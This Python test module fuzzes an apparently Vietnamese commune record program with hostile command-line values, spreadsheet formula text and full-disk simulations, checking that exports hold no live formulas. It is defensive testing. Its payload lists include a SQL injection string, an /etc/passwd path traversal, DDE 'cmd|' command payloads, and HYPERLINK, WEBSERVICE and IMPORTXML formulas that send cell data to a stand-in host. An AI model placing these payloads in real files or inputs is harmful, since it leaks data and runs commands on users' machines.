"""Attack families for the command line, the workbook writers and a full disk (issue 15).

- `cli-args`: every command of `de06desk.cli.build_parser()` with hostile argument values
  (huge and odd numbers, impossible dates, long strings, control characters, lone
  surrogates, missing files, folders, random bytes, /dev/zero and /dev/full behind a link),
  run in-process as a user would type them: no traceback, no unexpected error, a refusal
  is one line.
- `formula`: formula-like text (`=HYPERLINK(…)`, `+cmd|…`, `@SUM`, tab/CR-led) through every
  workbook the program writes: no formula in the saved file, the text kept as text.
- `disk-full`: `import citizens`, `backup`, `report weekly` to .xlsx and `user add` in a
  child process under a random RLIMIT_FSIZE (SIGXFSZ ignored, so writes fail with EFBIG):
  one line, no traceback, nothing half-written, the database intact.

Every path an argument can name lies inside the trial's own folder (the suite runs as root:
a hostile `--out /dev/null` could otherwise replace a device node).
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import hashlib
import io
import os
import random
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from functools import cache
from pathlib import Path

from tests.attack.core import Family, Outcome

ROOT = Path(__file__).resolve().parents[2]
ADMIN, ADMIN_PASSWORD = "admin", "Rung-Tram-42"
# One trial may not take longer than this (a hang on /dev/zero is a failure, not a stall).
TRIAL_SECONDS = 30
# Nor grow the process by more than this: reading /dev/zero whole must end in MemoryError (a
# failure the tally shows), not in the kernel's OOM killer taking the machine's memory.
TRIAL_MEMORY = 1536 * 1024 * 1024
PATH_DESTS = {"db", "out", "backup", "keyfile", "packages", "file", "refusals", "key_out"}

# ---- hostile values ----------------------------------------------------------------------

NUMBERS = [
    "0",
    "-1",
    "-0",
    "1" + "0" * 20,
    "-" + "9" * 40,
    "9" * 5000,
    "1e9",
    "NaN",
    "inf",
    "0x10",
    "١٢",  # Arabic-Indic digits: int() takes them
    " 7 ",
    "",
    "3.5",
    "2147483648",
]
DATES = [
    "01/01/0001",
    "31/12/9999",
    "00/00/0000",
    "31/02/2026",
    "2026-13-01",
    "9999-12-31",
    "0001-01-01",
    "2026-W99",
    "2026-W00",
    "0000-W01",
    "99999-W01",
    "13/2026",
    "2026-00",
    "1/2/3/4",
    "29/02/2100",
]
TEXTS = [
    "",
    " ",
    "x" * 5000,
    "a\nĐÃ NHẬP 100 gói",
    "\x1b[2J\x1b[31mđỏ",
    "\ud800",
    "\udcff\udc80",
    "tab\there",
    "nul\x00byte",
    "\u202eRTL",
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"Xem")',
    "@SUM(A1)",
    "../../etc/passwd",
    "%s%n%x",
    "{0.__class__}",
    "'; DROP TABLE users; --",
    "Nguyễn Thị Hường",
    "🙂" * 50,
    "-",
    "--",
    "-h",
]


def _random_text(rng: random.Random) -> str:
    pools = [
        "abcxyz019",
        "ăâđêôơưàảãáạ",
        "\x00\x01\x07\x1b\x7f\x85\x9b",
        "\ud800\udfff",
        "=+-@\t\r\n",
        "/\\:*?\"<>|'",
        "\u202a\u202e\u2066\ufeff\u200b",
    ]
    n = rng.choice([1, 5, 40, 300])
    return "".join(rng.choice(rng.choice(pools)) for _ in range(n))


def _value(rng: random.Random, dest: str) -> str:
    if dest in ("weeks", "citizens", "seed", "approval_days", "silent_days", "value"):
        return rng.choice(NUMBERS)
    if dest in ("week", "month", "date_from", "date_to", "start", "due"):
        return rng.choice(DATES + NUMBERS)
    return rng.choice(TEXTS) if rng.random() < 0.7 else _random_text(rng)


def _path(rng: random.Random, trial: Path, dest: str) -> str:
    """A hostile path, always inside `trial`."""
    choice = rng.randrange(11)
    if choice == 0:
        return str(trial / "missing" / "nowhere.xlsx")
    if choice == 1:
        return str(trial)  # a folder
    if choice == 2:
        empty = trial / "empty.csv"
        empty.touch()
        return str(empty)
    if choice == 3:
        junk = trial / rng.choice(["junk.csv", "junk.xlsx", "junk.de06bak", "junk.de06sync"])
        junk.write_bytes(os.urandom(rng.choice([1, 100, 4096, 65536])))
        return str(junk)
    if choice in (4, 5):
        link = trial / rng.choice(["zero.csv", "full.xlsx", "urandom.json", "zero.pdf"])
        with contextlib.suppress(FileExistsError):
            link.symlink_to("/dev/zero" if "zero" in link.name else "/dev/full")
        if "urandom" in link.name:
            link.unlink()
            link.symlink_to("/dev/urandom")
        return str(link)
    if choice == 6:
        return str(trial / ("x" * 300 + ".pdf"))  # a name longer than the file system allows
    if choice == 7:
        return str(trial / "a\nb\x1b[2J.xlsx")
    if choice == 8:
        return str(trial / "r\udcff.xlsx")
    if choice == 9:
        return str(trial / rng.choice(["r.pdf", "r.xlsx", "r.json", "r.csv", "r.txt", "r"]))
    return "db.db" if dest == "db" else str(trial / "out.xlsx")


# ---- the command tree ----------------------------------------------------------------------


@cache
def commands() -> list[tuple[tuple[str, ...], tuple[argparse.Action, ...]]]:
    """Every leaf command (its words) with its arguments, walked from the real parser."""
    from de06desk.cli import build_parser

    out: list[tuple[tuple[str, ...], tuple[argparse.Action, ...]]] = []

    def walk(parser: argparse.ArgumentParser, words: tuple[str, ...]) -> None:
        subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
        if not subs:
            actions = tuple(a for a in parser._actions if not isinstance(a, argparse._HelpAction))
            out.append((words, actions))
            return
        for name, child in subs[0].choices.items():
            walk(child, (*words, name))

    walk(build_parser(), ())
    return out


def hostile_argv(rng: random.Random, trial: Path) -> list[str]:
    """One command line: a real command, each argument present or not, with hostile values."""
    words, actions = rng.choice(commands())
    argv = list(words)
    for action in actions:
        name = action.dest
        if not action.option_strings:  # positional
            argv.append(_path(rng, trial, name) if name in PATH_DESTS else _value(rng, name))
            continue
        if name == "db":
            if rng.random() < 0.8:
                argv += ["--db", "db.db"]
            elif rng.random() < 0.5:
                argv += ["--db", _path(rng, trial, name)]
            continue
        if not action.required and rng.random() < 0.5:
            continue
        flag = rng.choice(action.option_strings)
        if action.nargs == 0:
            argv.append(flag)
        elif action.choices and rng.random() < 0.6:
            argv += [flag, str(rng.choice(list(action.choices)))]
        else:
            value = _path(rng, trial, name) if name in PATH_DESTS else _value(rng, name)
            argv += [f"{flag}={value}"] if value.startswith("-") else [flag, value]
    return argv


# ---- databases -----------------------------------------------------------------------------


@cache
def _template(folder: str) -> Path:
    """A small plaintext demo commune whose administrator logs in at a trivial scrypt cost.

    The fuzz measures refusals, not key derivation: a 0.1 s scrypt per log-in would make
    a long run mostly hashing.
    """
    from de06desk.demo import make_demo
    from de06desk.domain.passwords import _b64
    from de06desk.store import Store

    path = Path(folder) / "template.db"
    if path.exists():
        return path
    make_demo(path, seed=6, weeks=2, citizens=60, commune_code="00004", today=date(2026, 11, 20))
    salt = b"fuzz-salt-16byte"
    digest = hashlib.scrypt(ADMIN_PASSWORD.encode(), salt=salt, n=2, r=1, p=1)
    cheap = "$".join(["scrypt", "2", "1", "1", _b64(salt), _b64(digest)])
    with Store.open(path) as store, store.transaction():
        store.conn.execute("UPDATE users SET password_hash = ? WHERE username = ?", (cheap, ADMIN))
    return path


@cache
def _encrypted_template(folder: str) -> Path:
    """A small encrypted demo made by `de06desk demo` (admin / the demo password)."""
    path = Path(folder) / "encrypted.db"
    if not path.exists():
        subprocess.run(
            [sys.executable, "-m", "de06desk", "demo", "--db", str(path), "--citizens", "30"],
            env={**os.environ, "PYTHONPATH": str(ROOT), "DE06_DATA_DIR": f"{folder}/data"},
            capture_output=True,
            check=True,
            timeout=300,
        )
    return path


def _templates_folder() -> str:
    # One folder per schema and step: a template missing a step would be migrated (and the
    # migration announced on stderr) at every trial's open — a new step may keep the stamp.
    from de06desk.store.migrations import MIGRATIONS, SCHEMA_VERSION

    root = Path(os.environ.get("DE06_ATTACK_TEMPLATES", "/tmp/de06desk-attack-templates"))
    folder = root / f"schema-{SCHEMA_VERSION}-{list(MIGRATIONS)[-1].name}"
    folder.mkdir(parents=True, exist_ok=True)
    return str(folder)


def _workdir_template() -> Path:
    return _template(_templates_folder())


def _copy_db(trial: Path) -> Path:
    db = trial / "db.db"
    shutil.copy2(_workdir_template(), db)
    return db


# ---- running a command in-process ----------------------------------------------------------


class _Hang(BaseException):
    """A trial ran past TRIAL_SECONDS (raised from SIGALRM, so main() cannot swallow it)."""


@contextlib.contextmanager
def _in_trial(trial: Path, stdin: str) -> Iterator[tuple[io.BytesIO, io.BytesIO]]:
    out, err = io.BytesIO(), io.BytesIO()
    saved = (os.getcwd(), sys.stdin, sys.stdout, sys.stderr, dict(os.environ))

    def alarm(signum: int, frame: object) -> None:
        raise _Hang()

    previous = signal.signal(signal.SIGALRM, alarm)
    os.chdir(trial)
    os.environ.update(
        DE06_DATA_DIR=str(trial / "data"),
        DE06_USER=ADMIN,
        DE06_PASSWORD=ADMIN_PASSWORD,
        XDG_CONFIG_HOME=str(trial / "config"),
    )
    os.environ.pop("DE06_NEW_PASSWORD", None)
    os.environ.pop("DE06_RECOVERY_CODE", None)
    sys.stdin = io.StringIO(stdin)
    # Real byte streams with strict UTF-8, like a terminal: printing a lone surrogate fails
    # here exactly as it would for a user.
    streams = [
        io.TextIOWrapper(buffer, encoding="utf-8", errors="strict", write_through=True)
        for buffer in (out, err)
    ]
    sys.stdout, sys.stderr = streams
    memory = resource.getrlimit(resource.RLIMIT_AS)
    resource.setrlimit(resource.RLIMIT_AS, (_address_space() + TRIAL_MEMORY, memory[1]))
    signal.setitimer(signal.ITIMER_REAL, TRIAL_SECONDS)
    try:
        yield out, err
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        resource.setrlimit(resource.RLIMIT_AS, memory)
        signal.signal(signal.SIGALRM, previous)
        for stream in streams:
            with contextlib.suppress(Exception):
                stream.flush()
            stream.detach()  # keep the bytes readable once the wrapper is gone
        os.chdir(saved[0])
        sys.stdin, sys.stdout, sys.stderr = saved[1], saved[2], saved[3]
        os.environ.clear()
        os.environ.update(saved[4])


def _address_space() -> int:
    """The process's virtual size now (Linux), the base of the trial's memory limit."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmSize:"):
            return int(line.split()[1]) * 1024
    return 0


def _shown(argv: list[str]) -> str:
    text = " ".join(a if len(a) < 60 else a[:57] + "…" for a in argv)
    return text.encode("unicode_escape").decode("ascii")[:400]


def cli_args(rng: random.Random, trial: Path) -> Outcome:
    """One hostile command line, run through `de06desk.cli.main` in this process."""
    from de06desk.cli import main

    _copy_db(trial)
    argv = hostile_argv(rng, trial)
    stdin = rng.choice(["", "\n\n", "c\n", "Rung-Tram-42\nRung-Tram-42\n", "\x1b\n\ud800\n"])
    code: int | None = None
    escaped: BaseException | None = None
    with _in_trial(trial, stdin) as (out, err):
        try:
            code = main(argv)
        except SystemExit as stop:
            code = stop.code if isinstance(stop.code, int) else 2
        except _Hang:
            escaped = TimeoutError(f"no answer after {TRIAL_SECONDS} s")
        except BaseException as exc:  # the thing this family looks for
            escaped = exc
    stderr = err.getvalue().decode("utf-8", "backslashreplace")
    lines = [line for line in stderr.splitlines() if line.strip()]
    where = _shown(argv)
    if escaped is not None:
        return Outcome(
            refused=False,
            crashed=True,
            traceback=not isinstance(escaped, TimeoutError),
            detail=f"{type(escaped).__name__}: {str(escaped)[:200]} ← {where}",
        )
    if "Traceback" in stderr or "Exception ignored" in stderr:
        return Outcome(refused=False, traceback=True, detail=f"traceback ← {where}")
    if code == 70:
        return Outcome(refused=False, crashed=True, detail=f"{lines[-1][:200]} ← {where}")
    if code and len(lines) != 1 and not (argv[:2] == ["sync", "import"] and out.getvalue()):
        # `sync import` reports one outcome line per package on standard output instead.
        return Outcome(refused=True, crashed=True, detail=f"{len(lines)}-line error ← {where}")
    return Outcome(refused=bool(code))


# ---- formula injection ---------------------------------------------------------------------

_PAYLOADS = [
    'HYPERLINK("http://x/?"&C6&D6,"Xem")',
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'WEBSERVICE("http://x/"&A2)',
    "2+3+cmd|' /C notepad'!A0",
    'IMPORTXML(CONCAT("http://x/?",A1),"//a")',
]


def _formula_text(rng: random.Random) -> str:
    lead = rng.choice(["=", "+", "-", "@", "\t=", "\r=", "=-", "-="])
    payload = rng.choice(_PAYLOADS) if rng.random() < 0.7 else _random_text(rng).strip("\x00")
    return lead + payload


def _formulas_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            and (b"<f>" in archive.read(name) or b"<f " in archive.read(name))
        ]


def formula(rng: random.Random, trial: Path) -> Outcome:
    """Formula-like names through one of the workbook writers; the file must hold no formula."""
    from openpyxl import load_workbook

    texts = [_formula_text(rng) for _ in range(rng.randint(1, 4))]
    writer = rng.choice(["followup", "refusals-xlsx", "refusals-csv", "weekly"])
    from de06desk.domain.i18n import DomainError

    try:
        path = _write_with(writer, texts, trial)
    except DomainError:
        return Outcome(refused=True)  # the store refused the text before any export
    if writer == "refusals-csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [c for row in csv.reader(handle) for c in row]
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        live = [c for c in live if not c.lstrip("+-").replace(".", "").isdigit()]
        if live:
            return Outcome(refused=False, changed=True, detail=f"{writer}: live cell {live[0]!r}")
        return Outcome(refused=True)
    found = _formulas_in(path)
    if found:
        return Outcome(refused=False, changed=True, detail=f"{writer}: formula in {found[0]}")
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value[:1] in "=+-@\t\r\n":
                    from de06desk.workbook import formula_like

                    if formula_like(value) and not cell.quotePrefix:
                        return Outcome(
                            refused=False, changed=True, detail=f"{writer}: no quote {value!r}"
                        )
    return Outcome(refused=True)


def _write_with(writer: str, texts: list[str], trial: Path) -> Path:
    from de06desk.quality.citizen_import import (
        guess_mapping,
        plan_import,
        read_table,
        write_refusals,
    )
    from de06desk.quality.field_lists import export_followup
    from de06desk.reports.model import Table
    from de06desk.reports.xlsx import write_xlsx
    from de06desk.store import Store
    from tests.reports.samples import make_header, make_summary

    if writer == "weekly":
        summary = make_summary(rows=2)
        table = Table(
            key="eid_by_village",
            title="Theo thôn",  # titles are the program's own words, never data
            columns=("Thôn", "Đã kích hoạt"),
            kinds=("text", "int"),
            rows=tuple((t, i) for i, t in enumerate(texts)),
        )
        section = replace(summary.sections[0], tables=(*summary.sections[0].tables, table))
        summary = replace(
            summary,
            unit_name=texts[-1],
            activations_by_place=tuple((t, 1) for t in texts),
            sections=(section,),
        )
        return write_xlsx(summary, make_header(unit_name=texts[0]), trial / "r.xlsx")
    # Stored and read text cannot hold lone surrogates (the store and the file readers stop
    # them); the weekly writer above still gets them, as data from an older version might.
    texts = [t.encode("utf-8", "replace").decode("utf-8") for t in texts]
    db = _copy_db(trial)
    with Store.open(db) as store:
        if writer == "followup":
            village = store.save_record("village", {"name": texts[0][:60]}, user="t").uuid
            officer = store.save_record("officer", {"full_name": "Cán bộ A"}, user="t").uuid
            drive = store.save_record(
                "activation_drive",
                {
                    "held_on": date(2026, 9, 1),
                    "kind": "village",
                    "village": village,
                    "place": texts[-1][:60],
                    "officer": officer,
                },
                user="t",
            ).uuid
            for text in texts:
                citizen = store.save_record(
                    "citizen",
                    {
                        "full_name": text[:60],
                        "village": village,
                        "living_status": "living",
                        "birth_year": 1980,
                    },
                    user="t",
                ).uuid
                store.save_record(
                    "drive_roster",
                    {
                        "drive": drive,
                        "citizen": citizen,
                        "level": "level2",
                        "status": "approved",
                        "approved_on": date(2026, 9, 10),
                    },
                    user="t",
                )
            return export_followup(store, village, trial / "theo_doi.xlsx", user="t").path
        source = trial / "ds.csv"
        with source.open("w", encoding="utf-8", newline="") as handle:
            out = csv.writer(handle)
            out.writerow(["Họ và tên", "Năm sinh", "Thôn"])
            for text in texts:
                out.writerow([text, "19x", text])
        table = read_table(source)
        plan = plan_import(store, table, guess_mapping(table.headers), today=date(2026, 11, 20))
        suffix = ".csv" if writer == "refusals-csv" else ".xlsx"
        return write_refusals(plan, trial / f"tu_choi{suffix}")


# ---- disk full -----------------------------------------------------------------------------


def _run_limited(
    argv: list[str], cwd: Path, limit: int, password: str = ADMIN_PASSWORD
) -> subprocess.CompletedProcess[str]:
    def limited() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # writes fail with EFBIG instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "DE06_DATA_DIR": str(cwd / "data"),
        "DE06_USER": ADMIN,
        "DE06_PASSWORD": password,
        "DE06_NEW_PASSWORD": "ca-phe-sua-da-06",
    }
    return subprocess.run(
        [sys.executable, "-m", "de06desk", *argv],
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        errors="backslashreplace",
        timeout=120,
        preexec_fn=limited,
    )


def _citizens(db: Path) -> int:
    conn = sqlite3.connect(db)
    try:
        if conn.execute("PRAGMA integrity_check").fetchone()[0] != "ok":
            return -1
        return conn.execute("SELECT count(*) FROM citizens").fetchone()[0]
    finally:
        conn.close()


def disk_full(rng: random.Random, trial: Path) -> Outcome:
    """A command under a random file-size limit: a clean refusal or a clean success."""
    db = _copy_db(trial)
    size = db.stat().st_size
    before = _citizens(db)
    operation = rng.choice(["import", "backup", "xlsx", "user-add"])
    password = ADMIN_PASSWORD
    if operation == "import":
        rows = rng.choice([200, 2000, 6000])
        with (trial / "ds.csv").open("w", encoding="utf-8", newline="") as handle:
            out = csv.writer(handle)
            out.writerow(["Họ và tên", "Năm sinh", "Thôn"])
            out.writerows([f"Nguyễn Văn An {i}", 1980, "Thôn Đông"] for i in range(rows))
        argv = ["import", "citizens", "--db", "db.db", "ds.csv", "--yes", "--create-villages"]
        limit = rng.randint(size // 2, size + 400_000)
    elif operation == "backup":
        argv = ["backup", "--db", "db.db", "--out", "usb"]
        limit = rng.randint(1, size * 2)
    elif operation == "xlsx":
        argv = ["report", "weekly", "--db", "db.db", "--week", "2026-W47", "--out", "usb/r.xlsx"]
        (trial / "usb").mkdir()
        limit = rng.randint(1, 40_000)
    else:
        # Encrypted, as in production: where a full disk used to read as "wrong key".
        from de06desk.demo import DEMO_PASSWORD

        template = _encrypted_template(_templates_folder())
        shutil.copy2(template, db)
        shutil.copy2(f"{template}.keys", f"{db}.keys")
        size = db.stat().st_size
        argv = ["user", "add", "--db", "db.db", f"lan{rng.randrange(1000)}"]
        limit = rng.randint(1, size + 64 * 1024)
        password = DEMO_PASSWORD
    proc = _run_limited(argv, trial, max(1, limit), password)
    where = f"{operation} under RLIMIT_FSIZE={limit} (database {size} bytes)"
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    if "Traceback" in proc.stderr or "Exception ignored" in proc.stderr:
        return Outcome(refused=False, traceback=True, detail=f"traceback: {where}")
    if proc.returncode == 70 or (proc.returncode and len(lines) != 1):
        return Outcome(refused=False, crashed=True, detail=f"{proc.stderr[-200:]!r}: {where}")
    leftovers = [p.name for p in trial.rglob("*") if p.name.endswith((".part", ".tmp"))]
    leftovers += [p.name for p in trial.rglob(".de06bak-*")]
    wal = Path(f"{db}-wal")
    if operation == "user-add" and wal.exists() and wal.stat().st_size == 0 and proc.returncode:
        # The finding: a refused open left an empty WAL. (Under a limit smaller than the
        # database itself SQLite cannot even tidy its own WAL away on close; it is empty,
        # harmless and reused by the next open, so other operations do not count it.)
        leftovers.append(wal.name)
    if operation == "user-add":
        return _user_add_outcome(proc, leftovers, where)
    after = _citizens(db)
    if after < 0 or (proc.returncode and operation == "import" and after != before):
        return Outcome(refused=True, changed=True, detail=f"database {after} vs {before}: {where}")
    if leftovers:
        return Outcome(refused=bool(proc.returncode), changed=True, detail=f"{leftovers}: {where}")
    return Outcome(refused=bool(proc.returncode))


def _user_add_outcome(
    proc: subprocess.CompletedProcess[str], leftovers: list[str], where: str
) -> Outcome:
    if proc.returncode and "khóa không đúng" in proc.stderr:
        return Outcome(refused=True, changed=True, detail=f"called a wrong key: {where}")
    if leftovers:
        return Outcome(refused=bool(proc.returncode), changed=True, detail=f"{leftovers}: {where}")
    return Outcome(refused=bool(proc.returncode))


def _tidy(family: Family) -> Family:
    """`family`, leaving its trial folder only when the trial failed (for a look at it):
    a long run would otherwise keep a database copy per trial (100,000 × 0.5 MB)."""

    def run(rng: random.Random, trial: Path) -> Outcome:
        outcome = family(rng, trial)
        if not outcome.failed:
            shutil.rmtree(trial, ignore_errors=True)
            trial.mkdir()
        return outcome

    return run


FAMILIES: dict[str, Family] = {
    "cli-args": _tidy(cli_args),
    "formula": _tidy(formula),
    "disk-full": _tidy(disk_full),
}
